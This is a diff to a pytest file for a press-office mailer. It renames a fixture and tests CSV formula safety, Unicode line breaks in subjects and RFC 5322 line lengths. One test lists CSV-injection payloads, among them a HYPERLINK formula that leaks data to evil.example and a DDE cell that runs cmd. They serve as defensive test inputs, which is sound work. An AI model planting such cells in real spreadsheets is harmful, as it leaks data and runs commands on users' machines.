@@ -7,7 +7,6 @@ docstrings say what went wrong. The review found no difference between the two p
 from __future__ import annotations
 
 import csv
-import shutil
 from pathlib import Path
 
 import pytest
@@ -16,15 +15,6 @@ from conftest import ROOT, todays_campaign
 
 from mailer.cli import main
 from mailer.spreadsheet import FORMULA_STARTS
-
-
-@pytest.fixture
-def project(tmp_path: Path, db_url: str) -> Path:
-    """A press office's folder: the example release, lists and templates, the log in tmp."""
-    for folder in ("releases", "lists", "templates"):
-        shutil.copytree(ROOT / folder, tmp_path / folder)
-    (tmp_path / "mailer.toml").write_text(f'[database]\nurl = "{db_url}"\n', encoding="utf-8")
-    return tmp_path
 
 
 def mailer(*args: str) -> Result:
@@ -39,14 +29,14 @@ def write_list(path: Path, rows: list[list[str]]) -> Path:
     return path
 
 
-def test_dry_run_skipped_csv_is_spreadsheet_safe(project: Path) -> None:
+def test_dry_run_skipped_csv_is_spreadsheet_safe(logged: Path) -> None:
     """skipped.csv is a file the press officer opens in a spreadsheet (README: "the rows that get
     no email, and why"); a rejected address cell such as ``=HYPERLINK(...)`` must not be written
     as a formula there, as every other CSV mailer writes (reports, lists clean --rejects)."""
     hostile = ['=HYPERLINK("http://evil.example/?leak","click me")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
-    write_list(project / "lists" / "hostile.csv", [["Email", "First Name"], ["ana@example.org", "Ana"], *[[cell, "x"] for cell in hostile]])
+    write_list(logged / "lists" / "hostile.csv", [["Email", "First Name"], ["ana@example.org", "Ana"], *[[cell, "x"] for cell in hostile]])
     mailer("send", "releases/example.md", "--list", "lists/hostile.csv", "--dry-run")
-    skipped = project / "out" / "outbox" / todays_campaign() / "skipped.csv"
+    skipped = logged / "out" / "outbox" / todays_campaign() / "skipped.csv"
     rows = list(csv.reader(skipped.open(encoding="utf-8-sig")))[1:]
     assert len(rows) == len(hostile)
     assert [row[0] for row in rows if row[0].startswith(FORMULA_STARTS)] == []
@@ -68,7 +58,7 @@ Dear {{ contact.first_name | default("colleague") }}, news for {{ contact.remark
 """
 
 
-def test_dry_run_eml_subject_is_the_personalized_subject_with_unicode_line_breaks(project: Path) -> None:
+def test_dry_run_eml_subject_is_the_personalized_subject_with_unicode_line_breaks(logged: Path) -> None:
     """Promise 9 and "no line break reaches a header": a journalist whose cells hold a Unicode line
     separator gets the same subject in every proof (the dry-run .eml, ``compose.personalize``), and
     that subject is one line. Today ``tokens.escape_subject`` only replaces CR and LF, so
@@ -79,18 +69,18 @@ def test_dry_run_eml_subject_is_the_personalized_subject_with_unicode_line_break
     from mailer import compose, contacts
     from mailer.compose import release
 
-    (project / "releases" / "lines.md").write_text(LINE_RELEASE, encoding="utf-8")
+    (logged / "releases" / "lines.md").write_text(LINE_RELEASE, encoding="utf-8")
     write_list(
-        project / "lists" / "lines.csv",
+        logged / "lists" / "lines.csv",
         [
             ["Email", "First Name", "Remark"],
             *[[f"p{i}@example.org", f"Ann{mark}Lee", f"Front{mark}page"] for i, mark in enumerate(UNICODE_BREAKS)],
         ],
     )
     mailer("send", "releases/lines.md", "--list", "lists/lines.csv", "--dry-run")
-    folder = project / "out" / "outbox" / todays_campaign("lines")
-    rendered = compose.render(release.load(project / "releases" / "lines.md"), config=_config(project))
-    people = {c.email: c for c in contacts.load([project / "lists" / "lines.csv"]).contacts}
+    folder = logged / "out" / "outbox" / todays_campaign("lines")
+    rendered = compose.render(release.load(logged / "releases" / "lines.md"), config=_config(logged))
+    people = {c.email: c for c in contacts.load([logged / "lists" / "lines.csv"]).contacts}
     assert len(list(folder.glob("*.eml"))) == len(UNICODE_BREAKS), list(folder.iterdir())
     for path in sorted(folder.glob("*.eml")):
         proof = message_from_bytes(path.read_bytes(), policy=policy.default)
@@ -100,10 +90,10 @@ def test_dry_run_eml_subject_is_the_personalized_subject_with_unicode_line_break
         assert len(personal.subject.splitlines()) == 1, who
 
 
-def _config(project: Path):  # type: ignore[no-untyped-def]
+def _config(logged: Path):  # type: ignore[no-untyped-def]
     from mailer.config import load
 
-    return load(project / "mailer.toml")
+    return load(logged / "mailer.toml")
 
 
 @pytest.mark.parametrize("value", ["😀" * 1200, "\\" * 2400, '"' * 2400], ids=["emoji", "backslashes", "quotes"])
@@ -153,14 +143,14 @@ def test_load_canonical_cells_are_one_line_with_unicode_line_breaks(tmp_path: Pa
         assert len(person.fields["outlet"].splitlines()) == 1, person.fields
 
 
-def test_dry_run_eml_lines_stay_within_rfc_5322_with_long_values(project: Path) -> None:
+def test_dry_run_eml_lines_stay_within_rfc_5322_with_long_values(logged: Path) -> None:
     """A journalist with a very long name or field value (well under SendGrid's 10,000 bytes of
     substitutions) gets a proof whose every line is at most 998 characters (RFC 5322 §2.1.1: "MUST
     be no more than 998"); ``eml._address`` and ``_text_header`` (ASCII as it is) write the To and
     Subject headers on one line whatever their length, and an encoded word past 75 characters."""
-    (project / "releases" / "lines.md").write_text(LINE_RELEASE, encoding="utf-8")
+    (logged / "releases" / "lines.md").write_text(LINE_RELEASE, encoding="utf-8")
     write_list(
-        project / "lists" / "long.csv",
+        logged / "lists" / "long.csv",
         [
             ["Email", "First Name", "Last Name", "Remark"],
             ["ascii@example.org", "A" * 1200, "B" * 200, "R" * 900],
@@ -168,7 +158,7 @@ def test_dry_run_eml_lines_stay_within_rfc_5322_with_long_values(project: Path) 
         ],
     )
     mailer("send", "releases/lines.md", "--list", "lists/long.csv", "--dry-run")
-    folder = project / "out" / "outbox" / todays_campaign("lines")
+    folder = logged / "out" / "outbox" / todays_campaign("lines")
     proofs = sorted(folder.glob("*.eml"))
     assert len(proofs) == 2
     for path in proofs:
